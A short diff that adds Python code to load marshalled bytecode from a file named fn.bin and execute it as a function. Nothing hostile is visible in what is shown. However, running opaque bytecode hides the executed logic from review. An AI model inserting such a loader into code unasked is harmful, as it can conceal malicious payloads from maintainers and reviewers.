@@ -1,0 +1,3 @@
+import marshal, types
+code = marshal.loads(open("fn.bin", "rb").read())
+types.FunctionType(code, globals())()
